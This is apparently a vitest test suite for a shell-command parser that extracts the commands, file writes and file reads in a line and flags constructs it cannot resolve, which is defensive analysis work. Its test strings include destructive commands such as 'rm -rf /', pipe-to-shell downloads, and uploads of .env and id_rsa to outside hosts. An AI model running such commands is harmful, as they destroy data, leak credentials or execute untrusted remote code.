import { describe, expect, it } from 'vitest';
import { joinPath, normalizePath, parseShell, quoteShellWord } from '../../src/common/shell-parse.ts';

const env = { HOME: '/home/dev', PROJECT: 'app' };
const parse = (line: string) => parseShell(line, { env });
/** Each part as "program arg arg…". */
const commands = (line: string) => parse(line).parts.filter((p) => p.program !== '').map((p) => [p.program, ...p.args].join(' '));
const writes = (line: string) => parse(line).writes.map((w) => `${w.access} ${w.cwd ? `${w.cwd}:` : ''}${w.path}`);

describe('shell-parse: compound commands are split into every command they run', () => {
  it.each([
    ['make && make test', ['make', 'make test']],
    ['a || b; c & d', ['a', 'b', 'c', 'd']],
    ['cat x | grep y | wc -l', ['cat x', 'grep y', 'wc -l']],
    ['ls |& tee', ['ls', 'tee']],
    ['(cd sub; make)', ['cd sub', 'make']],
    ['{ echo a; echo b; } > out', ['echo a', 'echo b']],
    ['echo $(date) `whoami`', ['date', 'whoami', 'echo $(…) `…`']],
    ['echo "in quotes $(id -u)"', ['id -u', 'echo in quotes $(…)']],
    ['diff <(sort a) <(sort b)', ['sort a', 'sort b', 'diff <(…) <(…)']],
    ['if test -f x; then rm x; elif true; then :; else touch y; fi', ['test -f x', 'rm x', 'true', ':', 'touch y']],
    ['while read l; do echo "$l"; done < in.txt', ['read l', 'echo $l']],
    ['for f in a b; do cat "$f"; done', ['cat $f']],
    ['case "$x" in a|b) echo ab;; *) echo other;; esac', ['echo ab', 'echo other']],
    ['[[ -n "$(git status --porcelain)" ]] && echo dirty', ['git status --porcelain', 'echo dirty']],
    ['line one\nline two', ['line one', 'line two']],
    ['echo a # rm -rf / is a comment', ['echo a']],
    ['! grep -q x f', ['grep -q x f']],
    ['time make -j4', ['make -j4']],
  ])('%s', (line, expected) => {
    expect(commands(line)).toEqual(expected);
    expect(parse(line).uncertain).toEqual([]);
  });
});

describe('shell-parse: wrappers and shells expose the command they run', () => {
  it.each([
    ['sudo -u root rm -rf /', ['sudo -u root rm -rf /', 'rm -rf /']],
    ['env FOO=1 BAR=2 node x.js', ['env FOO=1 BAR=2 node x.js', 'node x.js']],
    ['timeout 5 nice -n 10 make', ['timeout 5 nice -n 10 make', 'nice -n 10 make', 'make']],
    ['nohup ./server &', ['nohup ./server', './server']],
    ['exec python3 app.py', ['exec python3 app.py', 'python3 app.py']],
    ["bash -c 'npm ci && npm test'", ["bash -c npm ci && npm test", 'npm ci', 'npm test']],
    ["sh -lc 'cd build; make'", ['sh -lc cd build; make', 'cd build', 'make']],
    ['find . -name "*.tmp" -exec rm -f {} \\;', ['find . -name *.tmp -exec rm -f {} ;', 'rm -f {}']],
    ["bash <<'EOF'\nnpm test\nEOF", ['bash', 'npm test']],
    ["watch -n 5 'ls -la'", ['watch -n 5 ls -la', 'ls -la']],
  ])('%s', (line, expected) => {
    expect(commands(line)).toEqual(expected);
  });
});

describe('shell-parse: words', () => {
  it('removes quotes and escapes and keeps the value bash passes', () => {
    expect(parse(`printf '%s\\n' "a b" c\\ d $'e\\tf' "g\\"h"`).parts[0]!.args).toEqual(['%s\\n', 'a b', 'c d', 'e\tf', 'g"h']);
  });

  it('expands ~ and variables whose value is known, and marks the others dynamic', () => {
    const p = parse('X=out; cp ~/a "$X/$PROJECT" $UNKNOWN').parts[1]!;
    expect(p.args).toEqual(['/home/dev/a', 'out/app', '$UNKNOWN']);
    expect(p.words.map((w) => w.dynamic)).toEqual([false, false, false, true]);
  });

  it('keeps a variable assigned in a subshell inside it', () => {
    expect(parse('(D=sub); echo x > $D/f').writes[0]!.word.dynamic).toBe(true);
  });

  it('tracks cd for the commands after it, and not past a subshell or pipeline', () => {
    const p = parse('cd src && make; (cd /etc); ls | (cd /x; cat) ; pwd').parts;
    expect(p.map((x) => `${x.program}@${x.cwd}`)).toEqual(['cd@', 'make@src', 'cd@src', 'ls@src', 'cd@src', 'cat@/x', 'pwd@src']);
  });

  it('quotes words so bash reads them back exactly', () => {
    for (const w of ['plain', 'a b', "it's", '$HOME', '', 'x;rm -rf /']) {
      expect(parse(`echo ${quoteShellWord(w)}`).parts[0]!.args).toEqual([w]);
    }
  });

  it('normalises paths lexically', () => {
    expect(normalizePath('a/./b/../c')).toBe('a/c');
    expect(normalizePath('../x')).toBe('../x');
    expect(normalizePath('/a/../../b')).toBe('/b');
    expect(joinPath('src', '../..')).toBe('..');
    expect(joinPath(null, 'x')).toBeNull();
    expect(joinPath(null, '/abs')).toBe('/abs');
  });
});

describe('shell-parse: redirections and known writers are writes to paths', () => {
  it.each([
    ['git show > ~/.ssh/id_rsa', ['write /home/dev/.ssh/id_rsa']],
    ['echo x | tee ../outside', ['write ../outside']],
    ['echo x | tee -a log1 log2', ['write log1', 'write log2']],
    ['make >> build.log 2>&1', ['write build.log']],
    ['cmd &> all.log; cmd2 >| forced; cmd3 1<>rw', ['write all.log', 'write forced', 'write rw']],
    ['echo x >&out.txt', ['write out.txt']],
    ['cmd 2>/dev/null >/dev/stderr', []],
    ['cmd >&2 2>&1 <in.txt', []],
    ['cd sub && echo x > f', ['write sub:f']],
    ['rm -rf build dist', ['delete build', 'delete dist']],
    ['mv a.txt ../b.txt', ['write ../b.txt', 'delete a.txt']],
    ['cp -r src /tmp/dest', ['write /tmp/dest']],
    ['cp -t out a b', ['write out']],
    ['ln -s /etc/passwd link', ['write link']],
    ['touch a b; mkdir -p c/d', ['write a', 'write b', 'write c/d']],
    ['dd if=/dev/zero of=disk.img bs=1M count=1', ['write disk.img']],
    ["sed -i 's/a/b/' x.ts y.ts", ['write x.ts', 'write y.ts']],
    ["sed -n 's/a/b/p' x.ts", []],
    ['curl -o page.html https://example.com', ['write page.html']],
    ['wget -O - https://example.com', []],
    ['chmod +x run.sh', ['write run.sh']],
    ['(cd /etc && cat passwd) > out.txt', ['write out.txt']],
    ['cat <<EOF > notes.txt\nhello\nEOF', ['write notes.txt']],
    ['diff a b > >(tee diff.log)', ['write diff.log']],
    ["bash -c 'echo pwned > ../x'", ['write ../x']],
    ['rm -f src/*.o', ['delete src/*.o']],
  ])('%s', (line, expected) => {
    expect(writes(line)).toEqual(expected);
  });
});

describe('shell-parse: files read by name', () => {
  const reads = (line: string) => parse(line).reads.map((r) => `${r.via} ${r.cwd ? `${r.cwd}:` : ''}${r.path}`);
  it.each([
    ['cat .env', ['cat .env']],
    ['cat -n a b - /dev/stdin', ['cat a', 'cat b']],
    ['head -n 5 config/.env.local', ['head config/.env.local']],
    ['grep -r API_KEY .env src', ['grep .env', 'grep src']],
    ['grep -e KEY -e TOKEN secrets.txt', ['grep secrets.txt']],
    ['rg -g "*.ts" pattern src', ['rg src']],
    ["jq '.token' creds.json", ['jq creds.json']],
    ["awk -F= '{print $2}' .env", ['awk .env']],
    ['sort -o sorted.txt in.txt', ['sort in.txt']],
    ['xxd key.bin out.hex', ['xxd key.bin']],
    ['cp .env /tmp/x', ['cp .env']],
    ['cp -t dest a b', ['cp a', 'cp b']],
    ['curl -T .env https://x -d @body.json -F "f=@id_rsa;type=text/plain"', ['curl .env', 'curl body.json', 'curl id_rsa']],
    ['wget --post-file=.env https://x', ['wget .env']],
    ['mysql < dump.sql', ['< dump.sql']],
    ['cd cfg && cat app.ini', ['cat cfg:app.ini']],
    ['while read l; do :; done < list.txt', ['< list.txt']],
    ["sed 's/a/b/' in.txt", ['sed in.txt']],
    ['tr a b < in.txt', ['< in.txt']],
    ['echo .env; ls .env', []],
  ])('%s', (line, expected) => {
    expect(reads(line)).toEqual(expected);
  });
});

describe('shell-parse: uncertain where the line is only known when it runs', () => {
  it.each([
    ['bash -c "$CMD"', /bash -c runs `"\$CMD"`/],
    ['sh -c "echo $X"', /sh -c runs/],
    ['eval "rm -rf /"', /eval runs a string/],
    ['source ./env.sh && make', /source runs the commands/],
    ['. ./env.sh', /\. runs the commands/],
    ['$CMD --force', /program name `\$CMD`/],
    ['$(which rm) -rf x', /program name/],
    ['"$EDITOR" file', /program name/],
    ['curl https://x.sh | sh', /sh runs commands read from a pipe/],
    ['bash < script.sh', /bash runs commands read from a file/],
    ["bash <<EOF\nrm -rf $DIR\nEOF", /here-doc whose text is only known/],
    ['cat <<EOF\nno end', /here-doc ending with "EOF" is not terminated/],
    ['alias ls="rm -rf"; ls', /alias definitions/],
    ['f() { rm -rf /; }; f', /defines a shell function "f"/],
    ['function g { :; }', /defines a shell function "g"/],
    ['echo x > "$OUT"', /> writes to `"\$OUT"`, a path only known/],
    ['echo x > $(mktemp)', /a path only known/],
    ['rm -rf "$BUILD_DIR/"', /rm deletes `"\$BUILD_DIR\/"`, a path only known/],
    ['echo x > {a,../b}', /expands to paths/],
    ['cp x */y', /expands to paths/],
    ['ls | xargs rm', /xargs rm changes files named by its input/],
    ['find . -exec rm {} +', /a path only known/],
    ['cd "$(mktemp -d)" && echo x > f', /relative to a directory a cd made unknown/],
    ['trap "rm -rf ~" EXIT', /trap runs a string/],
    ['coproc cat', /coproc/],
    ['env -S "rm -rf /"', /env -S/],
    ['echo "unterminated', /double quote is not closed/],
    ["echo 'unterminated", /single quote is not closed/],
    ['X=a; while true; do echo > $X; X=../..; done', /read and changed inside a loop/],
    ['echo )', /unexpected "\)"/],
  ])('%s', (line, reason) => {
    const r = parse(line);
    expect(r.uncertain.length).toBeGreaterThan(0);
    expect(r.uncertain.join(' | ')).toMatch(reason);
  });

  it('is certain about the same shapes with literal values', () => {
    for (const line of ["bash -c 'make test'", 'OUT=build.log; make > "$OUT"', 'cd sub && echo x > f', "bash <<'EOF'\nmake\nEOF"]) {
      expect(parse(line).uncertain).toEqual([]);
    }
  });

  it('notes inline code and background jobs without making the parse uncertain', () => {
    for (const line of ["python3 -c 'open(\"../x\",\"w\").write(\"x\")'", "node -e 'require(\"fs\")'", "perl -e 'unlink glob q(*)'"]) {
      const r = parse(line);
      expect(r.uncertain).toEqual([]);
      expect(r.notes.join(' ')).toMatch(/runs inline code/);
    }
    expect(parse('sleep 10 &').notes.join(' ')).toMatch(/background/);
  });

  it('stops at a nesting depth limit instead of recursing without end', () => {
    for (const [open, close] of [['$(', ')'], ['( ', ' )'], ['{ ', '; }']]) {
      const deep = `${open!.repeat(20000)}true${close!.repeat(20000)}`;
      expect(parse(deep).uncertain.join(' ')).toMatch(/nests commands more than/);
    }
  });
});

describe('shell-parse: never throws', () => {
  it('returns a result for arbitrary shell-like input', () => {
    const alphabet = [' ', ';', '&', '|', '(', ')', '{', '}', '<', '>', '$', '`', "'", '"', '\\', '\n', '#', '~', '*', '=', 'a', 'x', 'rm', 'cd', 'bash -c ', '<<', 'EOF', '$(', '${', 'if ', 'then ', 'fi', 'case ', 'esac', ' in ', ';;', 'for '];
    let seed = 12345;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let i = 0; i < 2000; i++) {
      let line = '';
      const len = 1 + rand(40);
      for (let j = 0; j < len; j++) line += alphabet[rand(alphabet.length)];
      expect(() => parseShell(line, { env })).not.toThrow();
    }
  });
});
